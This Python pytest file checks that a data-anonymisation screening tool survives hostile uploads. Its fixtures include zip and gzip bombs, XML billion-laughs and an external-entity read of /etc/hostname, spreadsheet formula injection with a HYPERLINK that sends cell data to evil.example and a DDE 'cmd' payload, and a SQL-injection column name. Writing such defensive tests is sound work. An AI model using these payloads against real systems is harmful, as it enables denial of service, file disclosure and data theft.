# SPDX-FileCopyrightText: 2026 Hoeder contributors
# SPDX-License-Identifier: MIT

"""Files that are broken, hostile or odd, each through its own process: whatever they hold, the
worst outcome is a reason, and the caller goes on."""

import gzip
import io
import json
import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from hoeder.anonymisation.screening.runner import MEGABYTE, Failure, Limits, run

Outcome = dict[str, Any] | Failure
Screened = Callable[..., Outcome]

LIMITS = Limits(memory=700 * MEGABYTE, seconds=300, disk=2048 * MEGABYTE)
SECRET = "jan.peeters@kuleuven.be"


@pytest.fixture
def screened(tmp_path: Path, valid: Callable[[dict[str, Any]], object]) -> Iterator[Screened]:
    """The outcome of some bytes, with a private directory that is gone after."""
    private = tmp_path / "private"
    private.mkdir()

    def outcome(content: bytes, name: str, limits: Limits = LIMITS) -> Outcome:
        path = tmp_path / "input"
        path.write_bytes(content)
        found = run(path, name, limits=limits, directory=private)
        if isinstance(found, dict):
            valid(found)
        return found

    yield outcome
    assert list(private.iterdir()) == []


def reasons(outcome: Outcome) -> set[str]:
    assert isinstance(outcome, dict), outcome
    return {part["reason"] for part in outcome["unread"]}


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def workbook(rows: list[list[object]]) -> bytes:
    file = io.BytesIO()
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(file)
    return file.getvalue()


def replaced(content: bytes, member: str, text: bytes) -> bytes:
    """A ZIP-based document with another text for one of its parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, member: text})


LAUGHS = b'<!DOCTYPE d [<!ENTITY a "ha">%s]>' % b"".join(
    b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10)
    for letter in range(ord("b"), ord("k"))
)
OUTSIDE = b'<!DOCTYPE d [<!ENTITY j SYSTEM "file:///etc/hostname">]>'
DOCUMENT = b"""<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>"""
STRINGS = b"""<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<si><t>&j;</t></si></sst>"""
CONTENT_TYPES = b"""<?xml version="1.0"?><Types
xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"""


def test_a_zip_bomb(screened: Screened) -> None:
    bomb = zipped({f"zeros{i}.csv": bytes(200 * MEGABYTE) for i in range(3)})
    assert len(bomb) < MEGABYTE
    assert "ratio" in reasons(screened(bomb, "bomb.zip"))


def test_a_bomb_of_nested_archives(screened: Screened) -> None:
    inner = zipped({"a.csv": bytes(100 * MEGABYTE)})
    for level in range(6):
        inner = zipped({f"{level}{i}.zip": inner for i in range(4)})
    found = reasons(screened(inner, "nested.zip"))
    assert found & {"nested-too-deep", "ratio"}


def test_a_compressed_bomb(screened: Screened) -> None:
    assert "ratio" in reasons(screened(gzip.compress(bytes(400 * MEGABYTE)), "zeros.csv.gz"))


def test_an_archive_of_too_many_members(screened: Screened) -> None:
    members = {f"{i}.txt": b"" for i in range(10_001)}
    found = reasons(screened(zipped(members, zipfile.ZIP_STORED), "many.zip"))
    assert found == {"too-many-members"}


def test_an_archive_that_overlaps_itself(screened: Screened) -> None:
    """Two entries of the directory that name the same bytes."""
    content = bytearray(zipped({"a.csv": b"a,b\n" * 10, "b.csv": b"a,b\n" * 10}))
    second = content.rindex(b"PK\x01\x02")
    content[second + 42 : second + 46] = bytes(4)
    found = screened(bytes(content), "overlap.zip")
    assert not isinstance(found, Failure)
    assert not found["complete"]


def test_a_line_without_end(screened: Screened) -> None:
    outcome = screened(b"a,b\n" + b"x" * 40 * MEGABYTE, "line.csv")
    assert "line-too-long" in reasons(outcome)


def test_twenty_thousand_columns(screened: Screened) -> None:
    lines = [",".join(f"c{i}" for i in range(20_000))]
    lines += [",".join(str(i % 7) for i in range(19_999)) + f",{SECRET}" for _ in range(30)]
    outcome = screened("\n".join(lines).encode(), "wide.csv")
    assert "too-many-columns" in reasons(outcome)
    assert isinstance(outcome, dict)
    assert "email" in {each["identifier"] for each in outcome["findings"]}


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"naam;stad\n" + b"Zo\xeb;Li\xe8ge\n" * 50 + "Zoë;Liège\n".encode() * 50, "mixed.csv"),
        (b"\xff\xfea\x00,\x00b\x00\n\x00\x00", "half.csv"),
        (b"\xef\xbb\xbfa,b\n\xc3\x28,\xa0\xa1\n" * 20, "wrong.csv"),
        (b"a,b\n1,\x002\n" * 20, "nul.csv"),
        (random.Random(5).randbytes(50_000), "noise.csv"),
    ],
)
def test_broken_encodings(screened: Screened, content: bytes, name: str) -> None:
    outcome = screened(content, name)
    assert isinstance(outcome, dict)
    assert outcome["file"]["size"] == len(content)


def test_locked_archives_and_workbooks(screened: Screened) -> None:
    locked = bytearray(zipped({"a.csv": b"a,b\n1,2\n"}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(signature) + offset] |= 1
    assert reasons(screened(bytes(locked), "locked.zip")) == {"encrypted"}
    name = "EncryptedPackage".encode("utf-16-le")
    book = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + name + bytes(2000)
    outcome = screened(book, "locked.xlsx")
    assert reasons(outcome) & {"encrypted", "damaged", "type"}
    assert isinstance(outcome, dict)
    assert not outcome["complete"]


@pytest.mark.parametrize("name", ["sample.sav", "sample.dta", "sample.sas7bdat"])
def test_truncated_statistical_files(
    screened: Screened, shared: Callable[[str], Path], name: str
) -> None:
    whole = shared(f"data/{name}").read_bytes()
    for size in (len(whole) // 2, 200):
        assert not _complete(screened(whole[:size], name))


def test_a_truncated_parquet_file(screened: Screened, tmp_path: Path) -> None:
    import duckdb

    path = tmp_path / "a.parquet"
    duckdb.sql(f"COPY (SELECT range AS a FROM range(9000)) TO '{path}' (FORMAT parquet)")
    whole = path.read_bytes()
    assert not _complete(screened(whole[: len(whole) // 2], "a.parquet"))
    assert not _complete(screened(whole[:-200] + bytes(192) + whole[-8:], "a.parquet"))


def _complete(outcome: Outcome) -> bool:
    return isinstance(outcome, dict) and bool(outcome["complete"])


def test_damaged_bytes_of_every_kind(screened: Screened) -> None:
    """One seed, some bytes turned: nothing but outcomes."""
    chance = random.Random(11)
    files = {
        "book.xlsx": workbook([["age", "town"], *([i, "Gent"] for i in range(50))]),
        "set.zip": zipped({"a.csv": b"a,b\n1,2\n" * 50}),
        "page.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" * 20,
    }
    for name, content in files.items():
        turned = bytearray(content)
        for _ in range(20):
            turned[chance.randrange(4, len(turned))] ^= chance.randrange(1, 256)
        outcome = screened(bytes(turned), name)
        assert isinstance(outcome, dict | Failure)


def test_formulas_are_text(screened: Screened) -> None:
    evil = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    content = "a,b\n" + "\n".join(f'"{each.replace(chr(34), chr(34) * 2)}",1' for each in evil)
    for name, file in (("a.csv", content.encode()), ("a.xlsx", workbook([[e, 1] for e in evil]))):
        outcome = screened(file, name)
        assert isinstance(outcome, dict)
        assert outcome["complete"], outcome["unread"]
        assert "evil.example" not in json.dumps(outcome)


@pytest.mark.parametrize("entities", [LAUGHS, OUTSIDE], ids=["laughs", "outside"])
def test_xml_entities(screened: Screened, entities: bytes) -> None:
    document = zipped(
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": entities + DOCUMENT}
    )
    assert reasons(screened(document, "laughs.docx")) == {"damaged"}
    book = replaced(workbook([["a", 1]]), "xl/sharedStrings.xml", entities + STRINGS)
    assert "damaged" in reasons(screened(book, "laughs.xlsx"))


def test_a_picture_that_is_called_a_table(screened: Screened) -> None:
    from PIL import Image

    file = io.BytesIO()
    Image.new("RGB", (20, 20)).save(file, "JPEG")
    outcome = screened(file.getvalue(), "table.csv")
    assert reasons(outcome) == {"mismatch", "picture"}
    assert isinstance(outcome, dict)
    assert outcome["file"]["media_type"] == "image/jpeg"


def test_names_of_columns_that_are_sql(screened: Screened) -> None:
    names = ['by"; DROP TABLE t0; --', "select", "c0", "'", '""', "order by", "{x}", "[b]rich[/b]"]
    head = ",".join('"' + name.replace('"', '""') + '"' for name in names)
    rows = "\n".join(",".join(str((i * j) % 5) for j in range(8)) for i in range(1, 40))
    outcome = screened(f"{head}\n{rows}\n".encode(), "sql.csv")
    assert isinstance(outcome, dict)
    assert outcome["complete"]
    assert [column["name"] for column in outcome["tables"][0]["columns"]] == names


@pytest.mark.parametrize("name", ["a.csv", "a.txt", "a.json", "a.xlsx", "a.zip", "a.sav", "a"])
def test_empty_files(screened: Screened, name: str) -> None:
    outcome = screened(b"", name)
    assert isinstance(outcome, dict)
    assert outcome["findings"] == []


def test_columns_without_values(screened: Screened) -> None:
    outcome = screened(b"leeftijd,geslacht,x\n" + b",,\n" * 50 + b"31,,\n", "missing.csv")
    assert isinstance(outcome, dict)
    (table,) = outcome["tables"]
    assert [each["reason"] for each in table["proposals"]][1:] == ["empty", "empty"]
    only = screened(b"leeftijd,geslacht\n,\n,\n", "nothing.csv")
    assert isinstance(only, dict)


def test_a_file_that_needs_more_memory_than_it_may(screened: Screened) -> None:
    rows = "".join(f"{i},{i * 7919 % 100003},{i * 31 % 977}\n" for i in range(300_000))
    small = Limits(memory=60 * MEGABYTE, seconds=300)
    outcome = screened(f"id,postcode,age\n{rows}".encode(), "large.csv", small)
    assert isinstance(outcome, Failure)
    assert outcome.reason == "memory"


def test_a_file_that_needs_more_time_than_it_may(screened: Screened) -> None:
    rows = "".join(f"{i},{i * 7919 % 100003},{i * 31 % 977}\n" for i in range(100_000))
    outcome = screened(f"id,postcode,age\n{rows}".encode(), "slow.csv", Limits(seconds=0.5))
    assert outcome == Failure("time", "0.5 s")
